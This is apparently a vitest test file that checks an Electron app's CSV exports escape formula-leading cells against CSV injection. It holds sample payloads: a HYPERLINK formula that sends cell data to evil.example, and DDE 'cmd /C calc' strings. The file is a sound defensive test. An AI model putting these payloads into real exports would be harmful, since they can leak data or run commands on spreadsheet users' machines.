/**
 * Exported per-item results never carry a formula (OWASP "CSV injection"):
 * values that came from a file or from the service and that a spreadsheet
 * would run (=, +, -, @, tab or carriage return first) are written with a
 * leading single quote, through `foyer outbox export` and through the admin's
 * export operation alike; so are a file's name and headers in the admin's
 * CSV of a file's problems. No service is reached: the outbox row is written
 * into the mirror directly, as a delivery would leave it.
 */
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createAppCore } from '../../../electron/core/app/core.ts';
import { createSession } from '../../../electron/core/access/session.ts';
import { main } from '../../../electron/core/cli/main.ts';
import { openRuntime } from '../../../electron/core/runtime.ts';
import { cleanup, configuredDataDir, tempDir, tempMirror } from '../../support/fixtures.ts';

const HOSTILE = {
  sourceId: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  email: "+cmd|' /C calc'!A0",
  message: "@SUM(1+1)*cmd|' /C calc'!A0",
  group: "-2+3+cmd|' /C calc'!A0",
  tab: '\t=1+1',
  cr: '\r=1+1',
};

let dir: string;
let outboxId: number;

beforeAll(() => {
  // A service that is never reached: nothing here sends anything.
  dir = configuredDataDir('http://127.0.0.1:9/api/v2', { dir: tempDir('foyer-export-'), token: 'export-test-token' });
  const mirror = tempMirror(dir);
  const now = '2026-01-01T00:00:00.000Z';
  outboxId = mirror.outbox.add({
    kind: 'identities',
    target: 'identities',
    payload: {
      permanentIdentities: [
        { sourceId: HOSTILE.sourceId, email: 'a@example.test' },
        { sourceId: HOSTILE.tab, email: HOSTILE.email },
        { sourceId: HOSTILE.cr, email: 'c@example.test' },
        { sourceId: 'plain', email: 'd@example.test' },
      ],
    },
    label: 'identities from hostile.csv',
    itemLines: [2, 3, 4, 5],
    now,
  });
  mirror.outbox.markDelivered(
    outboxId,
    JSON.stringify({
      permanentIdentities: [
        { status: 'INVALID', message: HOSTILE.message, unknownAccessProfiles: [] },
        {
          status: 'SUCCESS',
          unknownAccessProfiles: [{ accessProfileGroupSourceId: HOSTILE.group, sourceId: 'x' }],
        },
        { status: 'SUCCESS' },
        { status: 'SUCCESS', message: 'fine - nothing to do' },
      ],
    }),
    now,
  );
  mirror.close();
});
afterAll(cleanup);

/** The CSV's records, and that no cell a spreadsheet would evaluate remains. */
function expectNeutral(csv: string) {
  const records = parse(csv, { columns: true }) as Record<string, string>[];
  for (const record of records)
    for (const cell of Object.values(record)) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
  expect(records.map((r) => [r.sourceId, r.email, r.message, r.unknownAccessProfiles])).toEqual([
    [`'${HOSTILE.sourceId}`, 'a@example.test', `'${HOSTILE.message}`, ''],
    [`'${HOSTILE.tab}`, `'${HOSTILE.email}`, '', `'${HOSTILE.group}:x`],
    [`'${HOSTILE.cr}`, 'c@example.test', '', ''],
    // Nothing else changes: a dash inside a value is left alone.
    ['plain', 'd@example.test', 'fine - nothing to do', ''],
  ]);
  expect(records.map((r) => r.line)).toEqual(['2', '3', '4', '5']);
}

describe('exported results', () => {
  it('foyer outbox export neutralises formula-leading cells', async () => {
    let text = '';
    const out = { isTTY: false, write: (t: string) => void (text += t) };
    expect(await main(['outbox', 'export', String(outboxId), '--data-dir', dir], out, out)).toBe(0);
    expectNeutral(text);
  });

  it("the admin's export operation neutralises them the same way", async () => {
    const runtime = await openRuntime({ dataDir: dir });
    try {
      const core = createAppCore(runtime);
      const answer = (await core.call(createSession('admin-1', 'admin'), 'outbox.exportCsv', { id: outboxId })) as {
        fileName: string;
        csv: string;
      };
      expect(answer.fileName).toBe(`foyer-results-${outboxId}.csv`);
      expectNeutral(answer.csv);
    } finally {
      await runtime.close();
    }
  });

  it("the admin's problems of a file neutralise the file's name and its headers", async () => {
    const runtime = await openRuntime({ dataDir: dir });
    try {
      const core = createAppCore(runtime);
      const fileName = '=HYPERLINK("http:evil.example","open").csv';
      const header = '=HYPERLINK("http://evil.example/?"&A1,"click")';
      const answer = await core.call(createSession('admin-2', 'admin'), 'imports.issuesCsv', {
        kind: 'identities',
        fileName,
        // The header as a spreadsheet writes it: quoted, its quotes doubled.
        contentBase64: Buffer.from(
          `sourceId,email,"${header.replaceAll('"', '""')}"\nid-1,a@example.test,x\n`,
        ).toString('base64'),
      });
      const records = parse(answer.csv, { columns: true }) as Record<string, string>[];
      expect(records).toEqual([
        { file: `'${fileName}`, line: '1', column: `'${header}`, problem: expect.stringMatching(/^unknown column/) },
      ]);
    } finally {
      await runtime.close();
    }
  });
});
